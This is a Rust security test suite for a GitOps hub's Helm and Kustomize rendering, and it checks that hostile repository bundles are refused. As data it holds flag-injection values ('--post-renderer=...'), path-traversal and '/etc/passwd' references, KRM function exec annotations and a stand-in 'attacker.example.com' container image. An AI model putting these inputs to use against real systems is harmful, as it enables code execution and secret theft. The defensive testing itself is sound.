//! Repository content is hostile: each test here is a bundle an attacker who can
//! push to a source's repository would write, rendered by the hub's own code with
//! the real helm and kustomize (`FLOTILLA_TESTENV_BIN`, `make testenv`; skipped
//! with a note without it, failed under `FLOTILLA_REQUIRE_E2E=1`). The hub must
//! refuse the bundle, naming the file, the field and the reason, and neither run
//! a program of the attacker's choosing, connect anywhere, nor read a file
//! outside the bundle. Other bundles go on.

use std::collections::BTreeMap;
use std::io::Read;
use std::net::TcpListener;
use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use flotilla_hub::render::{read_bundle_dir, render_bundle, RenderCache, Tools};
use flotilla_shared::bundle::{RenderError, Rendered};
use flotilla_shared::objects::GitSourceSpec;

fn tools() -> Option<Tools> {
    let Some(dir) = std::env::var_os("FLOTILLA_TESTENV_BIN").map(PathBuf::from) else {
        if std::env::var("FLOTILLA_REQUIRE_E2E").as_deref() == Ok("1") {
            panic!(
                "FLOTILLA_REQUIRE_E2E=1 but FLOTILLA_TESTENV_BIN is not set (run `make testenv`)"
            );
        }
        eprintln!(
            "skipping: needs helm and kustomize (set FLOTILLA_TESTENV_BIN, see `make testenv`)"
        );
        return None;
    };
    Some(Tools::new(
        Some(dir.join("helm")),
        Some(dir.join("kustomize")),
    ))
}

fn files(list: &[(&str, &str)]) -> BTreeMap<String, Vec<u8>> {
    list.iter()
        .map(|(p, c)| (p.to_string(), c.as_bytes().to_vec()))
        .collect()
}

const CHART: &str = "apiVersion: v2\nname: c\nversion: 0.1.0\n";
const CM: &str = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: plain}\ndata: {k: v}\n";
const CM_TEMPLATE: &str = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: cm}\ndata: {k: v}\n";
/// What the attacker's secret looks like, wherever it is planted.
const SECRET: &str = "s3cr3t-from-elsewhere";

/// A TCP listener on loopback that counts the connections it gets; the attack
/// points the bundle at it, and it must get none.
struct Tripwire {
    port: u16,
    hits: Arc<AtomicUsize>,
}

impl Tripwire {
    fn start() -> Tripwire {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let h = hits.clone();
        // The thread ends with the test process; it only accepts and counts.
        std::thread::spawn(move || {
            for s in l.incoming() {
                h.fetch_add(1, Ordering::SeqCst);
                if let Ok(mut s) = s {
                    let _ = s.set_read_timeout(Some(Duration::from_millis(200)));
                    let mut buf = [0u8; 1024];
                    let _ = s.read(&mut buf);
                }
            }
        });
        Tripwire { port, hits }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}/{path}", self.port)
    }

    fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

/// A program the attacker wants run: it leaves a marker and passes its input on.
struct Marker {
    dir: tempfile::TempDir,
}

impl Marker {
    fn new() -> Marker {
        let dir = tempfile::tempdir().unwrap();
        // `x:` so that the program's path can contain `://` (`x://run`).
        let sub = dir.path().join("x:");
        std::fs::create_dir(&sub).unwrap();
        let script = sub.join("run");
        std::fs::write(
            &script,
            format!(
                "#!/bin/sh\ntouch {}\ncat\n",
                dir.path().join("ran").display()
            ),
        )
        .unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        Marker { dir }
    }

    /// The program's path, written with `://` in it.
    fn program(&self) -> String {
        format!("{}/x://run", self.dir.path().display())
    }

    fn ran(&self) -> bool {
        self.dir.path().join("ran").exists()
    }
}

async fn render(tools: &Tools, f: &BTreeMap<String, Vec<u8>>) -> Result<Rendered, RenderError> {
    render_bundle(tools, "b", f, &[]).await.default
}

/// The render failed, naming `file` and every piece of `reason`; returns the message.
fn refused(r: Result<Rendered, RenderError>, file: &str, reason: &[&str]) -> String {
    let e = match r {
        Ok(r) => panic!("rendered (should be refused): {:?}", r.manifests),
        Err(e) => e,
    };
    assert_eq!(e.file, file, "{e}");
    for part in reason {
        assert!(e.to_string().contains(part), "{e:?} does not say {part:?}");
    }
    e.to_string()
}

#[tokio::test]
async fn helm_flags_cannot_be_injected_through_fleet_yaml() {
    let Some(tools) = tools() else { return };
    let m = Marker::new();
    let inject = format!("--post-renderer={}", m.program());
    let chart = [("Chart.yaml", CHART), ("templates/cm.yaml", CM_TEMPLATE)];
    let with = |fleet: String| {
        let mut f = files(&chart);
        f.insert("fleet.yaml".into(), fleet.into_bytes());
        f
    };
    // The finding: a release name that is a flag makes helm run that program.
    let r = render(
        &tools,
        &with(format!("helm: {{releaseName: '{inject}'}}\n")),
    )
    .await;
    refused(r, "fleet.yaml", &["helm.releaseName", "DNS-1123"]);
    // A chart reference that is a flag (with `://`, passed as is on old code).
    let r = render(
        &tools,
        &with(format!("helm: {{releaseName: '.', chart: '{inject}'}}\n")),
    )
    .await;
    refused(r, "fleet.yaml", &["helm.chart"]);
    let r = render(
        &tools,
        &with(format!(
            "helm: {{repo: 'https://charts.example.com', chart: '{inject}'}}\n"
        )),
    )
    .await;
    refused(r, "fleet.yaml", &["helm.chart", "not a chart name"]);
    let r = render(&tools, &with(format!("namespace: '{inject}'\n"))).await;
    refused(r, "fleet.yaml", &["namespace", "DNS-1123"]);
    let r = render(&tools, &with(format!("defaultNamespace: '{inject}'\n"))).await;
    refused(r, "fleet.yaml", &["defaultNamespace"]);
    let r = render(&tools, &with(format!("helm: {{version: '{inject}'}}\n"))).await;
    refused(
        r,
        "fleet.yaml",
        &["helm.version", "not a version constraint"],
    );
    let mut f = with(format!("helm: {{valuesFiles: ['{inject}']}}\n"));
    f.insert(inject.clone(), b"a: 1\n".to_vec());
    let r = render(&tools, &f).await;
    refused(r, "fleet.yaml", &["helm.valuesFiles"]);
    let r = render(&tools, &with("helm: {valuesFiles: [/etc/passwd]}\n".into())).await;
    refused(r, "fleet.yaml", &["helm.valuesFiles", "absolute path"]);
    assert!(!m.ran(), "helm ran the attacker's program");
    // A well-formed bundle still renders, with the release name and chart after `--`.
    let ok = render(
        &tools,
        &with("helm: {releaseName: web}\nnamespace: apps\n".into()),
    )
    .await
    .unwrap();
    assert_eq!(ok.manifests.len(), 1);
}

#[tokio::test]
async fn charts_come_only_from_allowed_repositories() {
    let Some(tools) = tools() else { return };
    let trip = Tripwire::start();
    let repo = format!("helm: {{repo: '{}', chart: web}}\n", trip.url("charts"));
    let r = render(&tools, &files(&[("fleet.yaml", &repo)])).await;
    refused(r, "fleet.yaml", &["helm.repo", "--helm-repo-allow"]);
    let oci = format!(
        "helm: {{chart: 'oci://127.0.0.1:{}/charts/web', version: 1.0.0}}\n",
        trip.port
    );
    let r = render(&tools, &files(&[("fleet.yaml", &oci)])).await;
    refused(r, "fleet.yaml", &["helm.chart", "--helm-repo-allow"]);
    // Allowing another prefix does not allow this one.
    let tools = tools.with_helm_repo_allow(vec!["https://charts.example.com/".into()]);
    let r = render(&tools, &files(&[("fleet.yaml", &repo)])).await;
    refused(
        r,
        "fleet.yaml",
        &["helm.repo", "https://charts.example.com/"],
    );
    assert_eq!(
        trip.hits(),
        0,
        "the hub connected where the repository said"
    );
}

/// A directory outside the bundle holding a kustomization with a secret, as
/// another source's files or the hub's own data would be.
fn plant_secret() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    std::fs::write(
        d.path().join("kustomization.yaml"),
        "resources: [secret.yaml]\n",
    )
    .unwrap();
    std::fs::write(
        d.path().join("secret.yaml"),
        format!(
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: stolen}}\ndata: {{k: {SECRET}}}\n"
        ),
    )
    .unwrap();
    d
}

fn leaked(r: &Result<Rendered, RenderError>) -> bool {
    match r {
        Ok(r) => r
            .manifests
            .iter()
            .any(|m| m.object.to_string().contains(SECRET)),
        Err(e) => e.to_string().contains(SECRET),
    }
}

#[tokio::test]
async fn kustomize_sees_only_the_bundle() {
    let Some(tools) = tools() else { return };
    let trip = Tripwire::start();
    let secret = plant_secret();
    let abs = secret.path().display().to_string();
    // From the render's copy (`/tmp/flotilla-render-X/bundle`) up to `/` and down.
    let up = format!("{}{}", "../".repeat(12), abs.trim_start_matches('/'));
    let cases: Vec<(String, Vec<&str>)> = vec![
        (
            format!("resources: [cm.yaml, '{}']\n", trip.url("x.yaml")),
            vec!["resources[1]", "is a URL"],
        ),
        (
            format!(
                "resources: [cm.yaml]\nconfigMapGenerator:\n- name: g\n  files: ['k={}']\n",
                trip.url("data")
            ),
            vec!["configMapGenerator[0].files[0]", "is a URL"],
        ),
        (
            format!("resources: ['file://{abs}']\n"),
            vec!["resources[0]", "is a URL"],
        ),
        (
            format!("resources: ['{abs}']\n"),
            vec!["resources[0]", "absolute path"],
        ),
        (
            format!("resources: ['{up}']\n"),
            vec!["resources[0]", "leaves the bundle"],
        ),
        (
            format!("resources: [cm.yaml]\nconfigMapGenerator:\n- name: g\n  envs: ['{up}/secret.yaml']\n"),
            vec!["configMapGenerator[0].envs[0]", "leaves the bundle"],
        ),
        (
            format!(
                "helmCharts:\n- name: web\n  repo: '{}'\n  version: 1.0.0\n",
                trip.url("charts")
            ),
            vec!["helmCharts"],
        ),
        (
            "resources: ['github.com/kubernetes-sigs/kustomize//examples/helloWorld?ref=v3.3.1']\n"
                .into(),
            vec!["resources[0]", "not in the bundle"],
        ),
    ];
    for (k, reason) in cases {
        let f = files(&[("kustomization.yaml", &k), ("cm.yaml", CM)]);
        let r = render(&tools, &f).await;
        assert!(!leaked(&r), "{k}: leaked the secret");
        refused(r, "kustomization.yaml", &reason);
    }
    // An overlay's own `../` inside the bundle is fine.
    let ok = files(&[
        ("base/kustomization.yaml", "resources: [cm.yaml]\n"),
        ("base/cm.yaml", CM),
        (
            "overlays/prod/kustomization.yaml",
            "resources: [../../base]\nnamePrefix: p-\n",
        ),
        ("fleet.yaml", "kustomize: {dir: overlays/prod}\n"),
    ]);
    let r = render(&tools, &ok).await.unwrap();
    assert_eq!(r.manifests[0].object["metadata"]["name"], "p-plain");
    assert_eq!(
        trip.hits(),
        0,
        "kustomize connected where the repository said"
    );
}

#[tokio::test]
async fn kustomize_runs_no_functions_or_plugins() {
    let Some(tools) = tools() else { return };
    let m = Marker::new();
    let exec = format!(
        "apiVersion: example.com/v1\nkind: Run\nmetadata:\n  name: run\n  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: {}\n",
        m.program()
    );
    let container = "apiVersion: example.com/v1\nkind: Run\nmetadata:\n  name: run\n  annotations:\n    config.kubernetes.io/function: |\n      container:\n        image: attacker.example.com/run\n";
    for (kind, config, reason) in [
        ("generators", exec.as_str(), "KRM functions"),
        ("transformers", exec.as_str(), "KRM functions"),
        ("validators", container, "KRM functions"),
        (
            "transformers",
            "apiVersion: example.com/v1\nkind: Plugin\nmetadata: {name: p}\n",
            "plugins do not",
        ),
    ] {
        let f = files(&[
            (
                "kustomization.yaml",
                &format!("resources: [cm.yaml]\n{kind}: [fn.yaml]\n"),
            ),
            ("cm.yaml", CM),
            ("fn.yaml", config),
        ]);
        let r = render(&tools, &f).await;
        refused(r, "fn.yaml", &[reason]);
    }
    assert!(!m.ran(), "kustomize ran the attacker's program");
}

#[tokio::test]
async fn the_offline_render_skips_symlinks() {
    let outside = plant_secret();
    let bundle = tempfile::tempdir().unwrap();
    std::fs::write(bundle.path().join("cm.yaml"), CM).unwrap();
    std::os::unix::fs::symlink(
        outside.path().join("secret.yaml"),
        bundle.path().join("link.yaml"),
    )
    .unwrap();
    std::os::unix::fs::symlink(outside.path(), bundle.path().join("linked-dir")).unwrap();
    let f = read_bundle_dir(bundle.path()).unwrap();
    assert_eq!(
        f.keys().collect::<Vec<_>>(),
        ["cm.yaml"],
        "symlinks were followed"
    );
    let r = render(&Tools::default(), &f).await.unwrap();
    assert!(!leaked(&Ok(r)));
}

#[tokio::test]
async fn colliding_bundle_names_are_refused_and_nothing_merges() {
    let tools = Tools::default();
    let cm = |name: &str| format!("apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: {name}}}\n");
    let tree = files(&[
        ("web_front/fleet.yaml", ""),
        ("web_front/cm.yaml", &cm("one")),
        ("web-front/fleet.yaml", ""),
        ("web-front/cm.yaml", &cm("two")),
        ("a-b/c/fleet.yaml", ""),
        ("a-b/c/cm.yaml", &cm("three")),
        ("a/b-c/fleet.yaml", ""),
        ("a/b-c/cm.yaml", &cm("four")),
        ("other/fleet.yaml", ""),
        ("other/cm.yaml", &cm("five")),
    ]);
    let (previous, mut next) = (RenderCache::default(), RenderCache::default());
    let out = flotilla_hub::sources::render_snapshot(
        &tools,
        &previous,
        &mut next,
        "apps",
        &GitSourceSpec::default(),
        &tree,
        &[],
    )
    .await
    .unwrap();
    let names: Vec<&str> = out.iter().map(|b| b.name.as_str()).collect();
    let mut sorted = names.clone();
    sorted.sort();
    sorted.dedup();
    assert_eq!(sorted.len(), names.len(), "one bundle per name: {names:?}");
    for (name, dirs) in [
        ("apps-web-front", ["web-front", "web_front"]),
        ("apps-a-b-c", ["a-b/c", "a/b-c"]),
    ] {
        let b = out.iter().find(|b| b.name == name).unwrap();
        let e = b.result.as_ref().unwrap_err().to_string();
        for d in dirs {
            assert!(e.contains(d), "{e} does not name {d}");
        }
    }
    let other = out.iter().find(|b| b.name == "apps-other").unwrap();
    assert_eq!(other.result.as_ref().unwrap().manifests.len(), 1);
}
